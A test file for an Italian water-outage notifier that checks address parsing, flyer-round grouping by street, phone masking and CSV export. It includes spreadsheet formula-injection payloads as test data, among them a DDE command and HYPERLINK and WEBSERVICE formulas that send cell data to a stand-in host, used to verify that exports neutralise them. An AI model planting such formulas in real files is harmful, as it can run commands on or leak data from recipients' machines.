"""The flyer round and the CSV files, read back as Excel and csv would."""

from __future__ import annotations

import csv
import io

import pytest
from customer_records import affected
from water_outage_notifier.customers import (
    customers_csv,
    flyer_list,
    flyers_csv,
    safe_cell,
)
from water_outage_notifier.customers.flyers import split_address
from water_outage_notifier.customers.natural import natural_key


def read_back(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 byte-order mark for Excel"
    return list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline=""), delimiter=";"))


def test_natural_order_of_house_numbers():
    numbers = ["10A", "2", "10", "1", "3/B", "10b", None, "3"]
    assert sorted(numbers, key=natural_key) == ["1", "2", "3", "3/B", "10", "10A", "10b", None]


def test_house_number_is_taken_off_the_address_when_not_separate():
    assert split_address("Via  Emilia 12/B", None) == ("Via Emilia", "12/B")
    assert split_address("Via XX Settembre", None) == ("Via XX Settembre", None)
    assert split_address("Via 25 Aprile, 3", "") == ("Via 25 Aprile", "3")
    assert split_address("Via Roma", " 7 ") == ("Via Roma", "7")


def test_flyers_group_unreachable_customers_by_municipality_and_street():
    streets = flyer_list(
        [
            affected("a", "Via Emilia", "10"),
            affected("b", "via emilia", "2"),
            affected("c", "Via Emilia", "10A"),
            affected("d", "Via Emilia", "10"),
            affected("e", "Via Appia", "1", municipality="Dozza"),
            affected("f", "Via Emilia", "1", phones=["+393331234567"]),  # reachable
            affected("g", None, None),
        ]
    )
    assert [(s.municipality, s.street) for s in streets] == [
        ("Dozza", "Via Appia"),
        ("Imola", "Via Emilia"),
        ("Imola", None),
    ]
    emilia = streets[1]
    assert [stop.house_number for stop in emilia.stops] == ["2", "10", "10A"]
    assert emilia.stops[1].customers == ("a", "d") and emilia.stops[1].units == 2
    assert streets[2].stops[0].customers == ("g",)


def test_flyer_stop_is_flagged_when_a_sensitive_customer_lives_there():
    (street,) = flyer_list(
        [affected("a", "Via Emilia", "4"), affected("b", "Via Emilia", "4", sensitive=True)]
    )
    assert street.stops[0].sensitive


def test_customers_csv_reads_back_with_semicolons_and_accents():
    rows = read_back(
        customers_csv(
            [
                affected(
                    "c1", "Via Sàvena; lato nord", "3", municipality="Castel San Pietro Terme"
                ),
                affected("c2", "Via Emilia", "1", phones=["+393331234567", "+393387654321"]),
            ]
        )
    )
    header, first, second = rows
    assert header[0] == "customer_id" and len(first) == len(header)
    record = dict(zip(header, first))
    assert record["address"] == "Via Sàvena; lato nord"
    assert record["municipality"] == "Castel San Pietro Terme"
    assert (record["reachable"], record["reason"]) == ("no", "no_phone")
    # Numbers stay dialable: a phone cannot run anything, and an apostrophe would show.
    assert dict(zip(header, second))["phones"] == "+393331234567, +393387654321"


def test_phones_are_masked_in_exports_for_others():
    data = customers_csv([affected("c", phones=["+393331234567"])], mask_phones=True)
    header, row = read_back(data)
    assert dict(zip(header, row))["phones"] == "+39 333 ***4567"
    assert b"1234567" not in data


@pytest.mark.parametrize(
    "dangerous",
    [
        "=1+1",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1)",
        "\t=x",
        "\r=x",
        '=HYPERLINK("http://x.example/?"&A1;"clic")',
        "  =cmd|' /C calc'!A0",
        "+39 333 1234567 =1",
        'of:=WEBSERVICE("http://x.example")',
        "OF:=1",
    ],
)
def test_formula_cells_are_neutralised(dangerous):
    assert safe_cell(dangerous) == "'" + dangerous
    header, row = read_back(customers_csv([affected("c", address=dangerous)]))
    assert dict(zip(header, row))["address"] == "'" + dangerous


@pytest.mark.parametrize(
    "harmless",
    [
        "Via Emilia",
        "12",
        "Sant'Agata",
        "",
        "+393331234567",
        "+393331234567;+393387654321",
        "+39 333 ***4567, +39 338 ***4321",
        "-12.5",
        "-3",
    ],
)
def test_ordinary_cells_are_unchanged(harmless):
    assert safe_cell(harmless) == harmless


def test_flyers_csv_has_one_row_per_door_in_walking_order():
    streets = flyer_list(
        [
            affected("a", "Via Emilia 10"),
            affected("b", "Via Emilia 2"),
            affected("c", '=HYPERLINK("x")', "1"),
        ]
    )
    header, *rows = read_back(flyers_csv(streets))
    assert header == ["municipality", "street", "house_number", "customers", "units", "sensitive"]
    assert [(r[1], r[2], r[3]) for r in rows] == [
        ('\'=HYPERLINK("x")', "1", "c"),
        ("Via Emilia", "2", "b"),
        ("Via Emilia", "10", "a"),
    ]
